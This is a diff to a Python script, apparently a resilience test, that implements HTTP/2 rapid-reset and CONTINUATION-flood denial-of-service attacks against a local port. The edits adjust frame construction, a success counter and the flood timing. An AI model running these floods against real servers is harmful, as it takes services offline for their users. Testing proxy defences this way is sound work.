@@ -15,7 +15,7 @@ import zlib
 
 # The attackers' address. Proxies have limits for each address, so honest clients use another.
 SOURCE = "127.0.0.66"
-SECONDS = 6
+SECONDS = 4
 
 # Types of frames.
 DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
@@ -186,34 +186,36 @@ class Connection:
 
 
 def flood(port, count, send_one, **options):
-    """Calls `send_one(connection)` `count` times, on as many connections as that takes."""
+    """Calls `send_one(connection)` until it has succeeded `count` times, on as many connections as that takes."""
     end = time.monotonic() + SECONDS
     sent = 0
     while sent < count and time.monotonic() < end:
         with contextlib.suppress(OSError), Connection(port, **options) as connection:
             while sent < count and time.monotonic() < end:
-                sent += 1
                 send_one(connection)
+                sent += 1
             connection.hold(0.5)
     return sent
 
 
 def rapid_reset(port):
-    headers = call_headers(GET_ARTICLE)
+    """60,000 calls, each of which is cancelled at once."""
+    headers, content = call_headers(GET_ARTICLE), message(b"\x0a\x1aarticles/read-all-the-time")
 
     def reset_100(connection):
         data = b""
         for _ in range(100):
             stream = connection.new_stream()
-            data += frame(HEADERS, END_HEADERS | END_STREAM, stream, headers) + frame(RST_STREAM, 0, stream, CANCEL)
+            data += frame(HEADERS, END_HEADERS, stream, headers) + frame(DATA, END_STREAM, stream, content)
+            data += frame(RST_STREAM, 0, stream, CANCEL)
         connection.send(data)
 
     return flood(port, 600, reset_100) * 100
 
 
 def continuation_flood(port):
-    """25,000 frames of headers that do not end, of 7.9 KB."""
-    headers = b"".join(literal(f"x-{n}", "v" * 70) for n in range(100))[:7900]
+    """25,000 frames of headers that do not end, of 7.7 KB."""
+    headers = b"".join(literal(f"x-{n}", "v" * 70) for n in range(100))
 
     def send_100(connection):
         if connection.next_stream == 1:
